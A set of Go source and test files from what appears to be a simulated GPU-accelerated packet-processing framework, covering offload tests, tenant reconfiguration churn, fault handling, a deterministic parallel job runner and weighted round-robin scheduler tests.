	r := run(t, cfg)
	if r.OffloadedPackets == 0 {
		t.Fatal("GPU-only run offloaded nothing")
	}
	if r.DeviceStats[0].Tasks == 0 {
		t.Error("device processed no tasks")
	}
	if r.TxGbps <= 0 {
		t.Error("no throughput")
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("packet leak through offload path: %d", r.PoolOutstanding)
	}
	// Datablock chaining: AES+HMAC fuse into one task of 2 kernels, so
	// tasks * packets-per-task must equal offloaded packets.
	if r.DeviceStats[0].Packets != r.OffloadedPackets {
		t.Errorf("device packets %d != offloaded %d", r.DeviceStats[0].Packets, r.OffloadedPackets)
	}
}

func TestIPsecCPUOnlyDoesNotTouchDevice(t *testing.T) {
	r := run(t, quickCfg(sprintfConfig(ipsecConfigTpl, "cpu"), 3e9, 256))
	if r.OffloadedPackets != 0 || r.DeviceStats[0].Tasks != 0 {
		t.Error("CPU-only run used the device")
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("leak: %d", r.PoolOutstanding)
	}
}

func TestDeterminism(t *testing.T) {
	a := run(t, quickCfg(sprintfConfig(ipsecConfigTpl, "fixed=0.5"), 4e9, 256))
	b := run(t, quickCfg(sprintfConfig(ipsecConfigTpl, "fixed=0.5"), 4e9, 256))
	if a.TxGbps != b.TxGbps || a.RxDropped != b.RxDropped || a.OffloadedPackets != b.OffloadedPackets {
		t.Errorf("same seed diverged: %.4f/%.4f G, %d/%d drops, %d/%d offloaded",
			a.TxGbps, b.TxGbps, a.RxDropped, b.RxDropped, a.OffloadedPackets, b.OffloadedPackets)
	}
	if a.Latency.Mean() != b.Latency.Mean() {
		t.Error("latency distributions diverged")
	}
}

func TestSeedChangesOutcomeSlightly(t *testing.T) {
	a := run(t, quickCfg(sprintfConfig(ipsecConfigTpl, "fixed=0.5"), 4e9, 256))
	cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "fixed=0.5"), 4e9, 256)
	cfg.Seed = 999
	b := run(t, cfg)
	if a.OffloadedPackets == b.OffloadedPackets {
		t.Log("note: different seeds produced identical offload counts (possible but unlikely)")
	}
}

func TestAdaptiveRunsAndTraces(t *testing.T) {
	cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "adaptive"), 4e9, 256)
	cfg.Duration = 30 * simtime.Millisecond
	cfg.ALBObserve = 500 * simtime.Microsecond
	cfg.ALBUpdate = 2 * simtime.Millisecond
	r := run(t, cfg)
	if len(r.LBTrace) == 0 {
		t.Fatal("adaptive run produced no controller trace")
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("leak: %d", r.PoolOutstanding)
	}
}

func TestLatencyRecorded(t *testing.T) {
	r := run(t, quickCfg(l2Config, 1e9, 64))
	if r.Latency.Count() == 0 {
		t.Fatal("no latency samples")
	}
	// Minimum latency must be at least the external RTT fixture.
	if r.Latency.Min() < 13*simtime.Microsecond {
		t.Errorf("min latency %v below external RTT", r.Latency.Min())
	}
	if r.Latency.Min() > 30*simtime.Microsecond {
		t.Errorf("min latency %v implausibly high for L2fwd", r.Latency.Min())
	}
}

func TestWorkloadRateChange(t *testing.T) {
	cfg := quickCfg(l2Config, 1e9, 64)
	cfg.RateChanges = []RateChange{{At: 5 * simtime.Millisecond, BpsPerPort: 4e9}}
	r := run(t, cfg)
	// Average over the window must sit between the two rates.
	if r.TxGbps < 2.1 || r.TxGbps > 7.9 {
		t.Errorf("TxGbps = %.2f, want between 2 and 8 (rate ramped mid-run)", r.TxGbps)
	}
}

func TestConfigValidation(t *testing.T) {
	base := quickCfg(l2Config, 1e9, 64)
	cases := []struct {
		name string
		mut  func(*Config)
	}{
		{"no graph", func(c *Config) { c.GraphConfig = "" }},
		{"no generator", func(c *Config) { c.Generator = nil }},
		{"too many workers", func(c *Config) { c.WorkersPerSocket = 99 }},
		{"zero offered", func(c *Config) { c.OfferedBpsPerPort = 0 }},
		{"huge batch", func(c *Config) { c.CompBatchSize = 10000 }},
		{"bad graph", func(c *Config) { c.GraphConfig = "FromInput() -> Nope();" }},
		{"parse error", func(c *Config) { c.GraphConfig = "@@@" }},
	}
	for _, c := range cases {
		cfg := base
		c.mut(&cfg)
		if _, err := NewSystem(cfg); err == nil {
			t.Errorf("%s: NewSystem accepted invalid config", c.name)
		}
	}
}

func TestDualSocketDefaultTopology(t *testing.T) {
	cfg := Config{
		GraphConfig:       ipv4Config,
		Generator:         &gen.UDP4{FrameLen: 1500, Flows: 1024, Seed: 1},
		OfferedBpsPerPort: 10e9,
		WorkersPerSocket:  7,
		Warmup:            2 * simtime.Millisecond,
		Duration:          6 * simtime.Millisecond,
		Seed:              3,
	}
	r := run(t, cfg)
	// 8 ports x 10G of 1500B frames: the full machine must hit line rate.
	if r.TxGbps < 78 {
		t.Errorf("TxGbps = %.2f, want ~80 (line rate on the paper's machine)", r.TxGbps)
	}
	if len(r.PerPortGbps) != 8 {
		t.Errorf("%d ports reported, want 8", len(r.PerPortGbps))
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("leak: %d", r.PoolOutstanding)
	}
}

func TestBranchPredictionAblationEndToEnd(t *testing.T) {
	branchCfg := `
		b :: RandomWeightedBranch("0.05");
		FromInput() -> b;
		b[0] -> EchoBack() -> ToOutput();
		b[1] -> Discard();
	`
	with := quickCfg(branchCfg, 8e9, 64)
	withOpts := graph.Options{BranchPrediction: true, OffloadChaining: true}
	with.GraphOpts = &withOpts

	without := quickCfg(branchCfg, 8e9, 64)
	withoutOpts := graph.Options{BranchPrediction: false, OffloadChaining: true}
	without.GraphOpts = &withoutOpts

	rWith := run(t, with)
	rWithout := run(t, without)
	if rWith.TxGbps <= rWithout.TxGbps {
		t.Errorf("branch prediction (%.2fG) did not beat splitting (%.2fG)",
			rWith.TxGbps, rWithout.TxGbps)
	}
}

func sprintfConfig(tpl, alg string) string {
	out := ""
	for i := 0; i < len(tpl); i++ {
		if tpl[i] == '%' && i+1 < len(tpl) && tpl[i+1] == 's' {
			out += alg
			i++
			continue
		}
		out += string(tpl[i])
	}
	return out
}
