package core

import (
	"testing"

	"nba/internal/fault"
	"nba/internal/gen"
	"nba/internal/invariant"
	"nba/internal/reconfig"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
	"nba/internal/trace"
)

// churnTenant returns a latent tenant running the named sample app, ready to
// be admitted mid-run by a reconfig plan.
func churnTenant(app string) Tenant {
	switch app {
	case "ipv4":
		return Tenant{Name: "churn", GraphConfig: ipv4Config, Share: 1,
			Generator: &gen.UDP4{FrameLen: 64, Flows: 1024, Seed: 11}}
	case "ipv6":
		return Tenant{Name: "churn", GraphConfig: ipv6Config, Share: 1,
			Generator: &gen.UDP6{FrameLen: 78, Flows: 1024, Seed: 12}}
	case "ipsec":
		return Tenant{Name: "churn", GraphConfig: sprintfConfig(ipsecConfigTpl, "fixed=0.8"), Share: 1,
			Generator: &gen.UDP4{FrameLen: 64, Flows: 1024, Seed: 13}}
	case "ids":
		return Tenant{Name: "churn", GraphConfig: idsConfig, Share: 1,
			Generator: &gen.UDP4{FrameLen: 256, Flows: 1024, Seed: 14}}
	}
	panic("unknown app " + app)
}

// churnCfg is the canonical reconfig scenario: a steady ipv4 victim plus a
// latent tenant running app, admitted at 1/4 of the run, retuned at 1/2 and
// evicted at 3/4 (reconfig.Churn).
func churnCfg(app string) Config {
	const span = 8 * simtime.Millisecond // warmup 2 + duration 6
	return Config{
		Topology: sysinfo.SingleSocketTopology(4, 2), // 3 workers, 2 ports
		Tenants: []Tenant{
			{Name: "victim", GraphConfig: ipv4Config, Share: 2,
				Generator: &gen.UDP4{FrameLen: 64, Flows: 1024, Seed: 1}},
		},
		LatentTenants:     []Tenant{churnTenant(app)},
		Reconfig:          reconfig.Churn(span, "churn"),
		OfferedBpsPerPort: 2e9,
		Warmup:            2 * simtime.Millisecond,
		Duration:          6 * simtime.Millisecond,
		Seed:              7,
	}
}

// TestReconfigChurnConservationAcrossApps runs the admit→retune→evict churn
// for each of the four sample apps with the invariant oracle armed: the
// epoch-boundary conservation identity must hold at the evict commit, the
// evicted tenant's report section must be sealed (frozen counters, sealed
// digest, exit time), and nothing may leak or strand.
func TestReconfigChurnConservationAcrossApps(t *testing.T) {
	for _, app := range []string{"ipv4", "ipv6", "ipsec", "ids"} {
		t.Run(app, func(t *testing.T) {
			ck := invariant.New()
			cfg := churnCfg(app)
			cfg.Checker = ck
			cfg.Tracer = trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
			r := run(t, cfg)

			if len(r.Tenants) != 2 {
				t.Fatalf("got %d tenant reports, want 2 (victim + churn)", len(r.Tenants))
			}
			victim, churn := r.Tenants[0], r.Tenants[1]

			if victim.Evicted || victim.Admitted != 0 {
				t.Errorf("victim section corrupted: %+v", victim)
			}
			if victim.RxDelivered == 0 || victim.TxPackets == 0 {
				t.Errorf("victim starved during churn: delivered %d, tx %d", victim.RxDelivered, victim.TxPackets)
			}

			if !churn.Evicted {
				t.Fatal("churned tenant not marked evicted")
			}
			if churn.Admitted != 2*simtime.Millisecond {
				t.Errorf("churn admitted at %v, want 2ms (span/4)", churn.Admitted)
			}
			if churn.EvictedAt < 6*simtime.Millisecond {
				t.Errorf("churn evicted at %v, want >= 6ms (epoch begins at span*3/4)", churn.EvictedAt)
			}
			if churn.Digest == "" {
				t.Error("evicted tenant has no sealed trace digest")
			}
			if churn.RxDelivered == 0 || churn.TxPackets == 0 {
				t.Errorf("churned tenant carried no traffic while admitted: delivered %d, tx %d",
					churn.RxDelivered, churn.TxPackets)
			}
			// Per-tenant and global conservation, sealed section included.
			for _, tr := range r.Tenants {
				if tr.RxDelivered != tr.TxPackets+tr.GraphDrops+tr.ShedPackets {
					t.Errorf("tenant %s conservation broken: delivered %d != tx %d + graph %d + shed %d",
						tr.Name, tr.RxDelivered, tr.TxPackets, tr.GraphDrops, tr.ShedPackets)
				}
			}
			if r.RxDelivered != r.TxPackets+r.GraphDrops+r.ShedPackets {
				t.Errorf("global conservation broken: delivered %d != tx %d + graph %d + shed %d",
					r.RxDelivered, r.TxPackets, r.GraphDrops, r.ShedPackets)
			}
			if r.PoolOutstanding != 0 {
				t.Errorf("leak: %d packets outstanding after evict", r.PoolOutstanding)
			}
			for _, v := range ck.Violations() {
				t.Errorf("invariant violation: %+v", v)
			}
		})
	}
}

// TestReconfigChurnDigestsStableUnderReplay replays the churn scenario and
// requires every digest — global, victim, and the evicted tenant's sealed
// sub-digest — to reproduce byte-for-byte: the plan is part of run identity.
func TestReconfigChurnDigestsStableUnderReplay(t *testing.T) {
	mk := func() []string {
		cfg := churnCfg("ipsec")
		cfg.Tracer = trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
		r := run(t, cfg)
		out := []string{cfg.Tracer.Digest()}
		for _, tr := range r.Tenants {
			out = append(out, tr.Digest)
		}
		return out
	}
	a, b := mk(), mk()
	for i := range a {
		if a[i] != b[i] {
			t.Errorf("digest %d diverged across replays:\n%s\n%s", i, a[i], b[i])
		}
	}
}

// TestReconfigEmptyPlanGoldensUnchanged is the disarm contract: an armed but
// empty plan must leave the event timeline — and therefore every digest and
// counter — byte-identical to an unconfigured run.
func TestReconfigEmptyPlanGoldensUnchanged(t *testing.T) {
	nilCfg := fourTenantCfg()
	nilCfg.Tracer = trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
	nilR := run(t, nilCfg)
	nilDigest := nilCfg.Tracer.Digest()

	emptyCfg := fourTenantCfg()
	emptyCfg.Reconfig = &reconfig.Plan{}
	emptyCfg.Tracer = trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
	emptyR := run(t, emptyCfg)

	if d := emptyCfg.Tracer.Digest(); d != nilDigest {
		t.Errorf("empty reconfig plan perturbed the trace digest:\nnil   %s\nempty %s", nilDigest, d)
	}
	if nilR.RxDelivered != emptyR.RxDelivered || nilR.TxPackets != emptyR.TxPackets ||
		nilR.GraphDrops != emptyR.GraphDrops || nilR.ShedPackets != emptyR.ShedPackets {
		t.Errorf("empty plan perturbed counters: nil %d/%d/%d/%d, empty %d/%d/%d/%d",
			nilR.RxDelivered, nilR.TxPackets, nilR.GraphDrops, nilR.ShedPackets,
			emptyR.RxDelivered, emptyR.TxPackets, emptyR.GraphDrops, emptyR.ShedPackets)
	}
	for i := range nilR.Tenants {
		if nilR.Tenants[i].Digest != emptyR.Tenants[i].Digest {
			t.Errorf("tenant %d sub-digest perturbed by empty plan", i)
		}
	}
}

// TestHotUnplugWhileHungRescue unplugs a device that is mid-Hang with tasks
// parked on it: the epoch's force-rescue (Device.AbortAll at the drain-grace
// deadline) must evacuate every parked task through the CPU-fallback path —
// no strand, no leak, no reliance on the per-task completion timeout (which
// never fires here: the abort completes the tasks first).
func TestHotUnplugWhileHungRescue(t *testing.T) {
	ck := invariant.New()
	cfg := Config{
		Topology: sysinfo.SingleSocketTopology(4, 2),
		Tenants: []Tenant{
			{Name: "ipsec", GraphConfig: sprintfConfig(ipsecConfigTpl, "fixed=0.8"),
				Generator: &gen.UDP4{FrameLen: 64, Flows: 1024, Seed: 1}},
		},
		// 0.4 Gbps per port: below the ~1 Gbps CPU-only IPsec capacity of
		// this topology, so the datapath still drains after losing its GPU.
		OfferedBpsPerPort: 0.4e9,
		Warmup:            2 * simtime.Millisecond,
		Duration:          10 * simtime.Millisecond,
		Seed:              7,
		Checker:           ck,
		DrainGrace:        500 * simtime.Microsecond,
		FaultPlan: &fault.Plan{Events: []fault.Event{
			{At: 4 * simtime.Millisecond, Kind: fault.DeviceHang, Device: 0},
		}},
		Reconfig: &reconfig.Plan{Events: []reconfig.Event{
			{At: 5 * simtime.Millisecond, Kind: reconfig.DeviceUnplug, Device: 0},
		}},
	}
	r := run(t, cfg)

	if r.FailedTasks == 0 {
		t.Error("no aborted tasks despite unplugging a hung device with parked work")
	}
	if r.FallbackPackets == 0 {
		t.Error("no packets rescued onto the CPU by the unplug epoch")
	}
	if r.TimedOutTasks != 0 {
		t.Errorf("%d timeouts; the abort must complete parked tasks before any timeout fires", r.TimedOutTasks)
	}
	if r.PoolOutstanding != 0 {
		t.Errorf("strand: %d packets outstanding after hot-unplug", r.PoolOutstanding)
	}
	// After the unplug the socket has no device: the fixed-0.8 offload demand
	// all lands on the CPU, which still has to carry real traffic.
	if r.TxGbps < 0.5 {
		t.Errorf("TxGbps = %.2f, want CPU to carry load after the unplug", r.TxGbps)
	}
	for _, v := range ck.Violations() {
		t.Errorf("invariant violation: %+v", v)
	}
}

// TestReconfigSameTickAsFaultDigestStable pins the tie-break when a fault
// event and a reconfig epoch land on the same virtual tick: faults apply
// first (Run registers the fault timeline before the reconfig pump), the
// composed outcome is deterministic, and ten replays produce one digest.
func TestReconfigSameTickAsFaultDigestStable(t *testing.T) {
	const tick = 2 * simtime.Millisecond
	mk := func(withReconfig bool) string {
		cfg := Config{
			Topology: sysinfo.SingleSocketTopology(4, 2),
			Tenants: []Tenant{
				{Name: "a", GraphConfig: ipv4Config, Share: 2,
					Generator: &gen.UDP4{FrameLen: 64, Flows: 1024, Seed: 1}},
				{Name: "b", GraphConfig: ipv6Config, Share: 1,
					Generator: &gen.UDP6{FrameLen: 78, Flows: 1024, Seed: 2}},
			},
			OfferedBpsPerPort: 2e9,
			Warmup:            simtime.Millisecond,
			Duration:          3 * simtime.Millisecond,
			Seed:              7,
			FaultPlan: &fault.Plan{Events: []fault.Event{
				{At: tick, Kind: fault.RateBurst, RateFactor: 2},
			}},
		}
		if withReconfig {
			cfg.Reconfig = &reconfig.Plan{Events: []reconfig.Event{
				{At: tick, Kind: reconfig.ShareRetune, Tenant: "b", Share: 3},
				{At: tick, Kind: reconfig.QueueResize, Port: -1, Capacity: 512},
			}}
		}
		cfg.Tracer = trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
		run(t, cfg)
		return cfg.Tracer.Digest()
	}

	want := mk(true)
	for i := 0; i < 9; i++ {
		if d := mk(true); d != want {
			t.Fatalf("replay %d: same-tick fault+reconfig digest diverged:\n%s\n%s", i, d, want)
		}
	}
	if mk(false) == want {
		t.Error("same-tick reconfig epochs left no mark on the digest; they are not being applied")
	}
}

// TestReconfigConfigValidation pins the Config-level reconfig contract.
func TestReconfigConfigValidation(t *testing.T) {
	cases := []struct {
		name   string
		mutate func(*Config)
	}{
		{"reconfig without explicit tenants", func(c *Config) {
			c.Tenants = nil
			c.LatentTenants = nil
			c.GraphConfig = ipv4Config
			c.Generator = &gen.UDP4{FrameLen: 64, Flows: 1024, Seed: 1}
		}},
		{"latent tenants without a plan", func(c *Config) { c.Reconfig = nil }},
		{"admit of unknown tenant", func(c *Config) {
			c.Reconfig = &reconfig.Plan{Events: []reconfig.Event{
				{At: simtime.Millisecond, Kind: reconfig.TenantAdmit, Tenant: "ghost"},
			}}
		}},
		{"latent name colliding with an active tenant", func(c *Config) {
			c.LatentTenants[0].Name = "victim"
		}},
		{"double evict", func(c *Config) {
			c.Reconfig = &reconfig.Plan{Events: []reconfig.Event{
				{At: 2 * simtime.Millisecond, Kind: reconfig.TenantAdmit, Tenant: "churn"},
				{At: 4 * simtime.Millisecond, Kind: reconfig.TenantEvict, Tenant: "churn"},
				{At: 6 * simtime.Millisecond, Kind: reconfig.TenantEvict, Tenant: "churn"},
			}}
		}},
	}
	for _, tc := range cases {
		cfg := churnCfg("ipv4")
		tc.mutate(&cfg)
		if _, err := NewSystem(cfg); err == nil {
			t.Errorf("%s: NewSystem accepted an invalid reconfig config", tc.name)
		}
	}
}
