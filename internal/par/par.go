// Package par is the deterministic parallel case runner: a bounded worker
// pool that executes fully independent jobs — one simulation case each, with
// zero shared mutable state between them — across OS threads, collecting
// results into slot-indexed storage so that output order, and therefore
// every digest derived from it, is byte-identical to a serial run regardless
// of GOMAXPROCS or goroutine scheduling.
//
// The determinism argument is structural, not scheduled (DESIGN.md §13):
//
//   - every job is a pure function of its slot index (shared-nothing by
//     construction: callers build one engine, tracer, oracle and mempool per
//     case);
//   - each job writes only its own slot of the result slice, so writes are
//     disjoint and no ordering between jobs is observable;
//   - Run returns only after every worker has exited (WaitGroup barrier), so
//     the caller reads fully-written results with a happens-before edge.
//
// Scheduling order affects only wall-clock time, never the collected value.
// The package deliberately has no futures, no channels of results and no
// completion callbacks: all of those reintroduce observable completion
// order, which is exactly what a deterministic sweep must not depend on.
//
// par is a simulation package for nbalint purposes: the goroutines below are
// the single, audited exception to the no-goroutines rule, and the
// sharedstate rule understands par jobs (writes from a job that are not
// slot-indexed and escape the job are findings).
package par

import (
	"fmt"
	"runtime"
	"sync"
	"sync/atomic"
)

// Workers clamps a requested parallelism to an effective worker count:
// values <= 0 select GOMAXPROCS (the number of OS threads the runtime will
// actually run on), and the count never exceeds n, the number of jobs.
func Workers(requested, n int) int {
	w := requested
	if w <= 0 {
		w = runtime.GOMAXPROCS(0)
	}
	if w > n {
		w = n
	}
	if w < 1 {
		w = 1
	}
	return w
}

// Run executes job(0) … job(n-1) on at most workers concurrent OS threads
// and returns when all have completed. workers <= 1 (or n <= 1) runs every
// job inline on the calling goroutine with no pool at all — the serial
// fast path is the reference behaviour the parallel path must be
// indistinguishable from.
//
// Jobs are claimed from an atomic cursor, so the assignment of jobs to
// workers is scheduling-dependent; a correct job therefore must not observe
// anything except its own slot. A panicking job stops the pool from claiming
// further jobs and the panic is re-raised on the calling goroutine, wrapped
// with the slot that caused it (when several jobs panic concurrently the
// lowest-numbered slot wins, so the surfaced failure is as reproducible as
// the panic itself).
func Run(n, workers int, job func(slot int)) {
	if n <= 0 {
		return
	}
	if workers = Workers(workers, n); workers == 1 {
		for i := 0; i < n; i++ {
			if val, panicked := safeRun(job, i); panicked {
				panic(fmt.Sprintf("par: job %d panicked: %v", i, val))
			}
		}
		return
	}

	var (
		cursor atomic.Int64
		wg     sync.WaitGroup

		panicMu   sync.Mutex
		panicSlot = -1
		panicVal  any
		aborted   atomic.Bool
	)
	record := func(slot int, val any) {
		panicMu.Lock()
		if panicSlot < 0 || slot < panicSlot {
			panicSlot, panicVal = slot, val
		}
		panicMu.Unlock()
		aborted.Store(true)
	}
	work := func() {
		defer wg.Done()
		for !aborted.Load() {
			i := int(cursor.Add(1)) - 1
			if i >= n {
				return
			}
			if val, panicked := safeRun(job, i); panicked {
				record(i, val)
			}
		}
	}
	wg.Add(workers)
	for w := 0; w < workers; w++ {
		//nbalint:allow nondeterminism par worker pool: jobs are shared-nothing and results slot-indexed, so scheduling order is unobservable (DESIGN.md §13)
		go work()
	}
	wg.Wait()
	if panicSlot >= 0 {
		panic(fmt.Sprintf("par: job %d panicked: %v", panicSlot, panicVal))
	}
}

// safeRun executes one job, converting a panic into a value so both the
// serial and the parallel path surface it identically (wrapped with the
// slot). The deferred recover is open-coded by the compiler, so the
// steady-state dispatch stays allocation-free.
func safeRun(job func(int), i int) (val any, panicked bool) {
	defer func() {
		if r := recover(); r != nil {
			val, panicked = r, true
		}
	}()
	job(i)
	return nil, false
}

// Map runs f over n slots at the given parallelism and returns the results
// in slot order. The returned slice is identical — element for element — to
// a serial loop appending f(0) … f(n-1), whatever the worker count.
func Map[T any](n, workers int, f func(slot int) T) []T {
	out := make([]T, n)
	Run(n, workers, func(i int) {
		out[i] = f(i)
	})
	return out
}

// MapErr is Map for fallible jobs. Every job runs to completion regardless
// of other jobs' errors (a sweep wants all outcomes, not the fastest
// failure); the returned error is the lowest-slot error, which makes error
// selection deterministic even when several jobs fail in the same run. The
// result slice is always fully populated for the slots whose jobs returned
// nil errors.
func MapErr[T any](n, workers int, f func(slot int) (T, error)) ([]T, error) {
	out := make([]T, n)
	errs := make([]error, n)
	Run(n, workers, func(i int) {
		out[i], errs[i] = f(i)
	})
	for i, err := range errs {
		if err != nil {
			return out, fmt.Errorf("par: job %d: %w", i, err)
		}
	}
	return out, nil
}
