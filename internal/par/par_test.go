package par

import (
	"errors"
	"fmt"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
)

func TestWorkersClamp(t *testing.T) {
	tests := []struct {
		requested, n, want int
	}{
		{1, 100, 1},
		{4, 100, 4},
		{4, 2, 2},                       // never more workers than jobs
		{0, 100, runtime.GOMAXPROCS(0)}, // 0 = all OS threads
		{-3, 100, runtime.GOMAXPROCS(0)},
		{8, 0, 1}, // degenerate: no jobs still yields a valid count
	}
	for _, tt := range tests {
		if got := Workers(tt.requested, tt.n); got != tt.want {
			t.Errorf("Workers(%d, %d) = %d, want %d", tt.requested, tt.n, got, tt.want)
		}
	}
}

// TestMapMatchesSerial is the core contract: for every worker count the
// collected slice is element-for-element identical to the serial reference.
func TestMapMatchesSerial(t *testing.T) {
	const n = 257 // deliberately not a multiple of any worker count
	f := func(i int) uint64 {
		// A cheap but slot-sensitive computation.
		h := uint64(i)*0x9E3779B97F4A7C15 + 1
		h ^= h >> 33
		return h
	}
	want := Map(n, 1, f)
	for _, workers := range []int{2, 3, 8, 64, n + 10} {
		got := Map(n, workers, f)
		if len(got) != n {
			t.Fatalf("workers=%d: len %d, want %d", workers, len(got), n)
		}
		for i := range got {
			if got[i] != want[i] {
				t.Fatalf("workers=%d: slot %d = %d, want %d", workers, i, got[i], want[i])
			}
		}
	}
}

func TestRunCoversEverySlotExactlyOnce(t *testing.T) {
	const n = 1000
	var counts [n]atomic.Int32
	Run(n, 8, func(i int) { counts[i].Add(1) })
	for i := range counts {
		if c := counts[i].Load(); c != 1 {
			t.Fatalf("slot %d executed %d times", i, c)
		}
	}
}

func TestMapErrReturnsLowestSlotError(t *testing.T) {
	sentinel := errors.New("boom")
	out, err := MapErr(100, 8, func(i int) (int, error) {
		if i == 71 || i == 13 {
			return 0, fmt.Errorf("slot %d: %w", i, sentinel)
		}
		return i * 2, nil
	})
	if err == nil || !errors.Is(err, sentinel) {
		t.Fatalf("err = %v, want wrapped sentinel", err)
	}
	// Deterministic selection: the lowest failing slot, never the first to
	// finish.
	if !strings.Contains(err.Error(), "job 13") {
		t.Fatalf("err = %v, want the lowest-slot error (job 13)", err)
	}
	// Successful slots are still populated.
	if out[50] != 100 {
		t.Fatalf("out[50] = %d, want 100", out[50])
	}
}

func TestMapErrNilOnSuccess(t *testing.T) {
	out, err := MapErr(10, 4, func(i int) (int, error) { return i, nil })
	if err != nil {
		t.Fatal(err)
	}
	for i, v := range out {
		if v != i {
			t.Fatalf("out[%d] = %d", i, v)
		}
	}
}

func TestPanicPropagatesWithSlot(t *testing.T) {
	for _, workers := range []int{1, 8} {
		func() {
			defer func() {
				r := recover()
				if r == nil {
					t.Fatalf("workers=%d: panic swallowed", workers)
				}
				if msg := fmt.Sprint(r); !strings.Contains(msg, "job 5") || !strings.Contains(msg, "kaput") {
					t.Fatalf("workers=%d: panic %q, want job 5 / kaput", workers, msg)
				}
			}()
			Run(20, workers, func(i int) {
				if i == 5 {
					panic("kaput")
				}
			})
		}()
	}
}

func TestRunZeroAndOneJobs(t *testing.T) {
	Run(0, 8, func(i int) { t.Fatal("job ran for n=0") })
	ran := false
	Run(1, 8, func(i int) { ran = true })
	if !ran {
		t.Fatal("single job did not run")
	}
}

// TestSerialPathAllocFree pins the serial fast path (workers <= 1): zero
// allocations per Run, so wrapping an existing serial loop in par costs
// nothing when parallelism is off.
func TestSerialPathAllocFree(t *testing.T) {
	out := make([]int, 64)
	f := func(i int) { out[i] = i }
	if allocs := testing.AllocsPerRun(100, func() { Run(len(out), 1, f) }); allocs != 0 {
		t.Fatalf("serial Run allocates %.1f/run, want 0", allocs)
	}
}

// TestDispatchAllocFree is the per-case dispatch gate: the pool's overhead
// is a fixed number of allocations per Run (worker goroutines, the pool
// bookkeeping), with zero allocations per additional job. Measured as the
// delta between a large and a small run at the same worker count.
func TestDispatchAllocFree(t *testing.T) {
	const workers = 4
	out := make([]int, 4096)
	f := func(i int) { out[i] = i }
	measure := func(n int) float64 {
		return testing.AllocsPerRun(20, func() { Run(n, workers, f) })
	}
	small, large := measure(64), measure(4096)
	if perJob := (large - small) / float64(4096-64); perJob > 0.001 {
		t.Fatalf("parallel dispatch allocates %.4f/job (small=%.1f large=%.1f), want 0",
			perJob, small, large)
	}
}

// TestRaceStress hammers the pool with many tiny shared-nothing jobs so
// that any future cross-job leak — a shared tracer, oracle, mempool or rng
// smuggled into job state — trips the race detector deterministically in
// CI (check.sh runs the suite under -race) rather than flaking in a real
// sweep. Short mode skips it; the full gate does not.
func TestRaceStress(t *testing.T) {
	if testing.Short() {
		t.Skip("stress run; the -race gate in check.sh exercises it")
	}
	const (
		rounds = 8
		n      = 4000
	)
	for r := 0; r < rounds; r++ {
		out := Map(n, 8, func(i int) uint64 {
			// Each job touches only values derived from its own slot.
			h := uint64(i+r) * 0x9E3779B97F4A7C15
			for k := 0; k < 50; k++ {
				h ^= h >> 29
				h *= 0xBF58476D1CE4E5B9
			}
			return h
		})
		for i := 0; i < n; i += 997 {
			want := Map(1, 1, func(int) uint64 {
				h := uint64(i+r) * 0x9E3779B97F4A7C15
				for k := 0; k < 50; k++ {
					h ^= h >> 29
					h *= 0xBF58476D1CE4E5B9
				}
				return h
			})[0]
			if out[i] != want {
				t.Fatalf("round %d slot %d diverged", r, i)
			}
		}
	}
	// Nested dispatch: a parallel job fanning out its own serial sub-jobs
	// (the chaos sweep's doubled runs look exactly like this).
	sums := Map(100, 8, func(i int) int {
		sub := Map(10, 1, func(j int) int { return i*10 + j })
		s := 0
		for _, v := range sub {
			s += v
		}
		return s
	})
	for i, s := range sums {
		if want := i*100 + 45; s != want {
			t.Fatalf("nested slot %d = %d, want %d", i, s, want)
		}
	}
}
