package sched

import "testing"

func TestStaticPlacementIsIdentity(t *testing.T) {
	var p Static
	for tenant := 0; tenant < 4; tenant++ {
		for anno := 1; anno <= 3; anno++ {
			if got := p.DeviceFor(tenant, anno, 3); got != anno-1 {
				t.Fatalf("Static.DeviceFor(%d, %d, 3) = %d, want %d", tenant, anno, got, anno-1)
			}
		}
	}
}

func TestTenantSpreadCoversAllDevices(t *testing.T) {
	var p TenantSpread
	seen := map[int]bool{}
	for tenant := 0; tenant < 3; tenant++ {
		d := p.DeviceFor(tenant, 1, 3)
		if d < 0 || d >= 3 {
			t.Fatalf("TenantSpread out of range: %d", d)
		}
		seen[d] = true
	}
	if len(seen) != 3 {
		t.Fatalf("TenantSpread with 3 tenants on 3 devices hit %d devices, want 3", len(seen))
	}
	if d := p.DeviceFor(0, 1, 0); d != -1 {
		t.Fatalf("TenantSpread with no devices = %d, want -1", d)
	}
}

func TestWRRSingleTenantIsIdentity(t *testing.T) {
	w := NewWRR([]float64{1})
	for i := 0; i < 100; i++ {
		ord := w.Round()
		if len(ord) != 1 || ord[0] != 0 {
			t.Fatalf("round %d: single-tenant order %v, want [0]", i, ord)
		}
	}
}

// TestWRRRoundIsPermutation checks every round serves each tenant exactly
// once (no starvation), regardless of weights.
func TestWRRRoundIsPermutation(t *testing.T) {
	w := NewWRR([]float64{5, 1, 0.5, 3})
	for i := 0; i < 1000; i++ {
		ord := w.Round()
		seen := map[int]bool{}
		for _, ti := range ord {
			if ti < 0 || ti >= 4 || seen[ti] {
				t.Fatalf("round %d: order %v is not a permutation of 0..3", i, ord)
			}
			seen[ti] = true
		}
	}
}

// TestWRRFrontFrequencyTracksShares checks the front-of-round (priority)
// slot is won in proportion to the configured shares.
func TestWRRFrontFrequencyTracksShares(t *testing.T) {
	w := NewWRR([]float64{3, 1})
	const rounds = 4000
	firsts := [2]int{}
	for i := 0; i < rounds; i++ {
		firsts[w.Round()[0]]++
	}
	frac := float64(firsts[0]) / rounds
	if frac < 0.70 || frac > 0.80 {
		t.Fatalf("tenant with 3/4 share won the front slot %.3f of rounds, want ~0.75", frac)
	}
}

func TestWRRDeterministic(t *testing.T) {
	a, b := NewWRR([]float64{2, 1, 1}), NewWRR([]float64{2, 1, 1})
	for i := 0; i < 500; i++ {
		oa, ob := a.Round(), b.Round()
